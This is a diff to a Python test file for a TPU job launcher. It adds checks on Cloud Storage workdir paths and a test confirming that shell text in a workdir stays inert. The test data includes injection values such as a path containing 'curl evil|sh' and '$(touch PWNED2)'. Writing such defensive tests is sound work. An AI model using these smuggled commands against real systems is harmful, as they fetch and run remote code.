@@ -84,20 +84,27 @@ def test_a_misspelt_flag_is_what_the_parser_check_catches(tmp_path):
 
 # Bad input: a clear error (exit 2) and no gcloud command run ------------------------------------------
 
+V5E = ["--tpu", "v5e-8", "--zone", "us-west4-a", "--project", "p"]
 BAD = {
-    "unknown TPU type": (["--tpu", "v7x-99", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://b/r"],
+    "unknown TPU type": (["--tpu", "v7x-99", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://bkt/r"],
                          "not one this launcher knows"),
     "a size the generation lacks": (["--tpu", "v5p-12", "--zone", "us-east5-a", "--project", "p",
-                                     "--workdir", "gs://b/r"], "slices come in these sizes"),
-    "zone without the type": (["--tpu", "v4-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://b/r"],
+                                     "--workdir", "gs://bkt/r"], "slices come in these sizes"),
+    "zone without the type": (["--tpu", "v4-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://bkt/r"],
                               "does not offer v4"),
     "local workdir, multi-host": (["--tpu", "v5p-32", "--zone", "us-east5-a", "--project", "p",
                                    "--workdir", "/tmp/run"], "gs://BUCKET/RUN"),
-    "mesh vs chips": (["--tpu", "v5p-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://b/r",
+    "mesh vs chips": (["--tpu", "v5p-32", "--zone", "us-east5-a", "--project", "p", "--workdir", "gs://bkt/r",
                        "mesh.data=4", "mesh.fsdp=2"], "mesh does not match the slice (v5p-32 has 16 chips)"),
-    "no project, no gcloud default": (["--tpu", "v5e-8", "--zone", "us-west4-a", "--workdir", "gs://b/r"],
+    # The workdir: a valid Cloud Storage path, or refused with the rule it breaks.
+    "workdir: a one-letter bucket, with shell in the path": (V5E + ["--workdir", "gs://b/my run;curl evil|sh;"],
+                                                             "the bucket name 'b' is shorter than 3 characters"),
+    "workdir: capitals in the bucket": (V5E + ["--workdir", "gs://My_Bucket/run"], "has capital letters"),
+    "workdir: gs:/ for gs://": (V5E + ["--workdir", "gs:/my-bucket/run"], "gs://BUCKET/RUN"),
+    "workdir: a wildcard in the path": (V5E + ["--workdir", "gs://my-bucket/run*"], "characters ['*']"),
+    "no project, no gcloud default": (["--tpu", "v5e-8", "--zone", "us-west4-a", "--workdir", "gs://bkt/r"],
                                       "no --project given"),
-    "no zone, no gcloud default": (["--tpu", "v5e-8", "--project", "p", "--workdir", "gs://b/r"],
+    "no zone, no gcloud default": (["--tpu", "v5e-8", "--project", "p", "--workdir", "gs://bkt/r"],
                                    "no --zone given"),
 }
 
@@ -199,3 +206,29 @@ def test_a_name_in_use_is_refused_and_the_other_slice_is_not_deleted(taken_when,
     else:
         assert result.returncode == 1, result.stderr
         assert any(" create " in c for c in calls) and "nothing was deleted" in result.stderr, result.stderr
+
+
+@needs_gcloud
+@pytest.mark.parametrize("where", ["local", "gs"])
+def test_the_workdir_in_the_worker_script_is_a_path_never_shell(where, tmp_path):
+    """Spaces and shell in a (valid) workdir stay part of the path; a log copy that fails says so. The real
+    gcloud, with no account, is the copy that fails for gs://."""
+    from launch import gcloud
+    home = tmp_path / "home"
+    (home / "t5like").mkdir(parents=True)
+    os.symlink(os.path.dirname(os.path.dirname(sys.executable)), home / "t5like" / "venv")
+    log_dir = (f"{tmp_path}/my run;touch PWNED;$(touch PWNED2)/logs" if where == "local"
+               else "gs://my-bucket/my run;touch PWNED;$(touch PWNED2)/logs")
+    (tmp_path / "gcloud").mkdir()
+    env = {**os.environ, "HOME": str(home), "CLOUDSDK_CONFIG": str(tmp_path / "gcloud")}
+    script = gcloud.run_script(["python", "-c", "print('step 1')"], log_dir)
+    result = subprocess.run(["bash", "-c", script], env=env, capture_output=True, text=True, cwd=tmp_path,
+                            timeout=120)
+    assert result.returncode == 0, result.stderr
+    assert not [p for p in (home / "t5like", tmp_path) for name in ("PWNED", "PWNED2") if (p / name).exists()]
+    if where == "local":
+        copies = list((tmp_path / "my run;touch PWNED;$(touch PWNED2)" / "logs").iterdir())
+        assert [c.read_text() for c in copies] == ["step 1\n"]
+        assert result.stderr == ""
+    else:
+        assert f"could not copy worker.log to {log_dir}/" in result.stderr, result.stderr
